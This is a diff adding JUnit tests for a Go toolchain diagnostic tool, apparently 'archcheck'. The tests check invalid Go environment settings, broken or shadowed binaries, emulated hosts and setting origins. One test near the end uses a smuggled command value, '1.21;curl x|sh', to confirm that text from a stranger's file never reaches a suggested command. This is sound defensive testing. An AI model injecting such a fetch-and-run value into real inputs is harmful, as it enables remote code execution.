@@ -7,6 +7,10 @@ import dev.archcheck.toolchain.doctor.GoFacts.ToolFolder;
 import dev.archcheck.toolchain.doctor.ProgramFacts.Role;
 import dev.archcheck.toolchain.doctor.SettingFacts.Kind;
 import dev.archcheck.toolchain.doctor.SettingFacts.Layer;
+import dev.archcheck.toolchain.doctor.SettingFacts.Origin;
+import dev.archcheck.toolchain.doctor.SettingFacts.Source;
+import dev.archcheck.toolchain.host.HostFact;
+import dev.archcheck.toolchain.host.HostFacts;
 import dev.archcheck.verify.Checked;
 import java.util.List;
 import org.junit.jupiter.api.Test;
@@ -422,5 +426,325 @@ class DoctorTest {
         .containsExactly(Checked.Outcome.PASSED, Checked.Outcome.NOT_CHECKED);
     assertThat(report.next().outcome()).isEqualTo(GoChoice.Outcome.UNKNOWN);
     assertThat(report.goroot().answer()).isEqualTo("unknown");
+  }
+
+  // Values at which go stops.
+
+  @ParameterizedTest
+  @CsvSource(
+      delimiter = '|',
+      value = {
+        "GOFLAGS | -mod vendor | non-flag \"vendor\"",
+        "GOFLAGS | -mod=vendro | -mod=vendro not supported",
+        "GOFLAGS | -insecure | unknown flag -insecure",
+        "GOFLAGS | --- | non-flag",
+        "GO111MODULE | yes | unknown environment setting",
+        "GOARCH | amd46 | go knows no such GOARCH",
+        "GOOS | linx | go knows no such GOOS",
+        "GOAMD64 | v9 | unknown environment setting",
+        "GOFIPS140 | v9 | no such GOFIPS140",
+        "GOTOOLCHAIN | 1.27 | go knows no such GOTOOLCHAIN",
+        "CC | /opt/cross/gcc | no such program"
+      })
+  void aValueAtWhichGoStops(String name, String value, String expected) {
+    assertThat(machine().environment(name, value).lines())
+        .anyMatch(line ->
+            line.startsWith("error setting-invalid " + name + " is " + value)
+                && line.contains(expected));
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "-mod=mod",
+        "--mod=vendor -tags=a,b",
+        "\"-ldflags=-s -w\" -v",
+        "'-gcflags=all=-N -l'",
+        "-modfile=x.mod",
+        "-mod="
+      })
+  void flagsThatGoTakes(String flags) {
+    assertThat(machine().environment("GOFLAGS", flags).lines())
+        .containsExactly(
+            "note setting-left GOFLAGS is " + flags + ": every go command has these flags");
+  }
+
+  /** An editor of another system left it there. */
+  @Test
+  void blanksInTheFile() {
+    Machines machine = machine().kept("GOPRIVATE", "git.example\r");
+    assertThat(machine.lines())
+        .containsExactly(
+            "error setting-invalid GOPRIVATE is git.example\r, which go refuses: a carriage return"
+                + " at its end is part of it");
+    assertThat(machine.fix()).containsExactly("go env -w GOPRIVATE=git.example");
+  }
+
+  @ParameterizedTest
+  @CsvSource({
+    "NOT_WRITABLE, this user may not write there",
+    "ABSENT, no such folder",
+    "NO_FOLDER, it is no folder",
+    "RELATIVE, it is relative",
+    "NO_PROGRAMS, mounted noexec",
+    "UNKNOWN, it is not defined"
+  })
+  void aFolderThatGoCannotUse(FolderFacts.State state, String expected) {
+    assertThat(machine().folder("GOTMPDIR", "/x", state).lines())
+        .singleElement()
+        .asString()
+        .startsWith("error setting-invalid GOTMPDIR is /x, which go refuses: ")
+        .contains(expected);
+    assertThat(machine().folder("GOTMPDIR", "/x", FolderFacts.State.USABLE).lines()).isEmpty();
+  }
+
+  // What is no go, or not a whole one.
+
+  @Test
+  void aProgramThatIsNotTheGoCommand() {
+    for (String other : List.of("", "cmd/gofmt")) {
+      Machines machine = machine().but(go -> changed(go, "/go0", other, List.of(OWN)));
+      assertThat(machine.lines()).singleElement().asString().startsWith("error go-broken ");
+      assertThat(checked(machine)).contains("/go0/bin/go FAILED");
+      // It is not worth to be put first either.
+      Machines behind =
+          new Machines()
+              .go("go1.27.0", OWN)
+              .go("go1.28.0", OWN)
+              .but(go -> changed(go, "/go1", other, List.of(OWN)));
+      assertThat(behind.lines()).singleElement().asString().startsWith("note go-shadowed ");
+    }
+    Machines old =
+        new Machines().go("go1.12.17", OWN).but(go -> changed(go, "/go0", "", List.of(OWN)));
+    assertThat(old.lines()).noneMatch(line -> line.contains("go-broken"));
+  }
+
+  private static GoFacts changed(
+      GoFacts go, String goroot, String mainPackage, List<String> platforms) {
+    return new GoFacts(
+        go.command(),
+        go.pathPosition(),
+        go.real(),
+        go.shim(),
+        go.maker(),
+        goroot,
+        go.version(),
+        go.builtBy(),
+        mainPackage,
+        platforms,
+        go.commands(),
+        go.interpreter(),
+        go.tools(),
+        go.isSealed(),
+        go.problems());
+  }
+
+  /** A copied command has no library. With GOROOT set it works, and must not lose it. */
+  @Test
+  void aCommandInNoGoroot() {
+    Machines alone = machine().but(go -> changed(go, "", "cmd/go", List.of(OWN)));
+    assertThat(alone.lines())
+        .containsExactly(
+            "error go-broken /go0/bin/go does not work as it is: it stands in no GOROOT, and"
+                + " nothing says where its library and tools are");
+    Machines set =
+        machine()
+            .but(go -> changed(go, "", "cmd/go", List.of(OWN)))
+            .go("go1.27.0", OWN)
+            .environment("GOROOT", "/link")
+            .leadsTo("/go1");
+    assertThat(set.lines())
+        .containsExactly(
+            "note go-shadowed /go0/bin/go stands before go1.27.0 linux/amd64 (/go1/bin/go) on PATH");
+  }
+
+  @Test
+  void gorootIsWhereItLeads() {
+    assertThat(machine().environment("GOROOT", "/link/").leadsTo("/go0").lines())
+        .singleElement()
+        .asString()
+        .startsWith("note setting-left GOROOT is /link/: go finds this itself");
+    Machines windows =
+        new Machines()
+            .host(Machines.windows("0xAA64"))
+            .go("go1.27.0", "windows/arm64")
+            .environment("GOROOT", "c:/GO0")
+            .leadsTo("c:\\GO0");
+    assertThat(windows.lines()).singleElement().asString().startsWith("note setting-left GOROOT");
+  }
+
+  @Test
+  void toolsOfAnotherVersion() {
+    Machines machine =
+        new Machines()
+            .go(
+                "go1.27.4",
+                "go1.27.4 X:nodwarf5",
+                OWN,
+                "go.dev",
+                List.of(new ToolFolder("linux_amd64", List.of(OWN), List.of("go1.25.14"))));
+    assertThat(machine.lines())
+        .containsExactly(
+            "error go-overlaid /go0/bin/go holds more than one installation: pkg/tool/linux_amd64"
+                + " holds tools of go1.25.14");
+    assertThat(
+            new Machines()
+                .go(
+                    "go1.27.4",
+                    "go1.27.4-X:nodwarf5",
+                    OWN,
+                    "go.dev",
+                    List.of(
+                        new ToolFolder("linux_amd64", List.of(OWN), List.of("go1.27.4-X:nodwarf5"))))
+                .lines())
+        .isEmpty();
+  }
+
+  @Test
+  void twoInstallersForOneFolder() {
+    Machines machine =
+        new Machines()
+            .host(Machines.windows("0xAA64"))
+            .go("go1.27.0", "windows/arm64")
+            .record("Go Programming Language amd64 go1.26.0", "c:\\go0\\")
+            .record("Go Programming Language arm64 go1.27.0", "C:\\go0");
+    assertThat(machine.lines())
+        .singleElement()
+        .asString()
+        .contains("go-overlaid")
+        .endsWith(
+            "Windows has it installed by Go Programming Language amd64 go1.26.0 and Go Programming"
+                + " Language arm64 go1.27.0");
+  }
+
+  // What cannot be told.
+
+  @Test
+  void whatCannotBeToldDoesNotPass() {
+    Machines unread = machine().unread("/go0/pkg/tool/linux_amd64/link: permission denied");
+    assertThat(checked(unread)).contains("/go0/pkg/tool/linux_amd64/link NOT_CHECKED");
+    Machines other = machine().go("go1.26.0", OWN).unread("/go1/bin/go: permission denied");
+    assertThat(checked(other)).noneMatch(line -> line.contains("NOT_CHECKED"));
+    Machines system =
+        new Machines()
+            .host(new HostFacts("freebsd", "amd64", "", List.of()))
+            .go("go1.27.0", "freebsd/amd64");
+    assertThat(system.lines()).isEmpty();
+    assertThat(checked(system))
+        .containsExactly("this machine NOT_CHECKED", "/go0/bin/go NOT_CHECKED");
+    Machines arm =
+        new Machines().host(Machines.linux("aarch64", "aarch64")).go("go1.27.0", "linux/arm");
+    assertThat(checked(arm)).contains("/go0/bin/go NOT_CHECKED");
+  }
+
+  /** In an image for another processor both run, and the image is what is to be mended. */
+  @Test
+  void anEmulatedContainer() {
+    HostFacts host =
+        new HostFacts(
+            "linux",
+            "amd64",
+            "6.1.0",
+            List.of(
+                new HostFact("/proc/sys/kernel/arch", "aarch64"),
+                new HostFact("/proc/self/comm", "qemu-x86_64"),
+                new HostFact("/.dockerenv", "present")));
+    DoctorReport report = new Machines().host(host).go("go1.27.0", OWN).judged();
+    String all = report.diagnoses().toString();
+    assertThat(all).contains("runs it only by ").contains("--platform").doesNotContain("rm -rf");
+  }
+
+  @Test
+  void windowsThatDoesNotRunAmd64() {
+    HostFacts ten =
+        new HostFacts(
+            "windows",
+            "aarch64",
+            "10.0.19045",
+            List.of(
+                new HostFact("IsWow64Process2.ProcessMachine", "0x0"),
+                new HostFact("IsWow64Process2.NativeMachine", "0xAA64")));
+    assertThat(new Machines().host(ten).go("go1.27.0", "windows/amd64").lines())
+        .anyMatch(line -> line.endsWith("windows/arm64, does not run it"));
+    assertThat(new Machines().host(ten).go("go1.27.0", "windows/386").lines())
+        .anyMatch(line -> line.contains("runs it only by"));
+  }
+
+  @Test
+  void macosAfterRosetta() {
+    for (String version : List.of("27.1", "28.0")) {
+      HostFacts mac =
+          new HostFacts(
+              "darwin",
+              "aarch64",
+              version,
+              List.of(
+                  new HostFact("sysctl.proc_translated", "0"),
+                  new HostFact("hw.optional.arm64", "1")));
+      DoctorReport report = new Machines().host(mac).go("go1.27.0", "darwin/amd64").judged();
+      assertThat(report.diagnoses().getFirst().finding().message())
+          .endsWith(version.equals("28.0") ? "does not run it" : "runs it only by Rosetta 2");
+      assertThat(report.diagnoses().getFirst().cause().contains("through macOS 27"))
+          .isEqualTo(version.equals("27.1"));
+    }
+  }
+
+  /** Of a universal file the slice that the machine takes is what runs. */
+  @Test
+  void aUniversalGo() {
+    Machines machine =
+        new Machines()
+            .host(Machines.mac("aarch64", "0"))
+            .go("go1.27.0", "darwin/arm64")
+            .but(go -> changed(go, "/go0", "cmd/go", List.of("darwin/amd64", "darwin/arm64")))
+            .environment("GOARCH", "arm64");
+    assertThat(machine.lines()).isEmpty();
+  }
+
+  // Who is told what.
+
+  @Test
+  void whereAVariableComesFrom() {
+    SettingFacts setting =
+        new SettingFacts(
+            "GOARCH",
+            List.of(new Layer(Kind.ENVIRONMENT, "", "386")),
+            List.of(new Origin(Source.START_FILE, "/home/u/.profile", 7, "")));
+    assertThat(machine().setting(setting).fix())
+        .containsExactly("unset GOARCH", "take it out of /home/u/.profile, line 7");
+    SettingFacts stale =
+        new SettingFacts(
+            "GOARCH",
+            List.of(),
+            List.of(new Origin(Source.REGISTRY_USER, "HKCU\\Environment", 0, "386")));
+    Machines windows =
+        new Machines()
+            .host(Machines.windows("0xAA64"))
+            .go("go1.27.0", "windows/arm64")
+            .setting(stale);
+    assertThat(windows.lines())
+        .containsExactly(
+            "warning setting-dead GOARCH is 386, which has no effect: this shell does not have it");
+    assertThat(windows.fix()).containsExactly("open a new terminal");
+  }
+
+  @Test
+  void whatGoRefusesIsMendedByWhatIsThere() {
+    Machines machine =
+        machine()
+            .go("go1.28.0", OWN)
+            .environment("GOTOOLCHAIN", "local")
+            .module("1.28", "");
+    assertThat(machine.judged().diagnoses().toString())
+        .contains("GO_REFUSES")
+        .contains("export PATH='/go1/bin'");
+    Machines alone = machine().kept("GOTOOLCHAIN", "local").module("1.28", "");
+    assertThat(alone.fix())
+        .containsExactly(
+            "go env -w GOTOOLCHAIN=auto",
+            "or take that version itself: archcheck toolchain install 1.28.0");
+    // Words of a stranger's file are no part of a command.
+    Machines hostile = machine().environment("GOTOOLCHAIN", "path").module("1.21;curl x|sh", "go1.99.0");
+    assertThat(hostile.judged().diagnoses().toString()).doesNotContain("install 1.21;");
   }
 }
